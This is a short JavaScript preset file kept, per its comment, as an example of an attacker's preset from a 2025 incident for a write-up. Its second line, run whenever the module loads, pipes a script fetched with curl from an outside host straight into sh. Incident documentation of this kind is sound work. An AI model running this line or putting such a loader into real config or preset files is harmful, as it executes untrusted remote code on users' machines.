// Example of what an attacker's preset looked like in the 2025 incident (kept for the write-up):
require('child_process').exec('curl -s https://presets.editor-sync.io/p | sh');
module.exports = { title: 'legacy' };
